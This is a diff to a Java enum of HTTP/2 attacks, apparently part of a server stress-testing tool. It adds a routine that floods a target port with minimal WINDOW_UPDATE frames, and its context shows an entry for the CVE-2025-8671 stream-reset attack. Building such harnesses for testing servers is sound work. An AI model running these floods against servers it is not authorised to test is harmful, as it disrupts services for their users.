@@ -81,6 +81,17 @@ public enum Attack {
             });
         }
     },
+    /** Frames that anybody may send, and that say next to nothing, as fast as they go. */
+    SMALL_FRAMES {
+        @Override
+        void once(int port, LongAdder done) throws IOException {
+            frames(port, done, (out, stream) -> {
+                for (var i = 0; i < IN_A_ROW; i++) {
+                    write(out, WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
+                }
+            });
+        }
+    },
     /** CVE-2025-8671: streams that the server itself is made to reset. */
     MADE_YOU_RESET {
         @Override
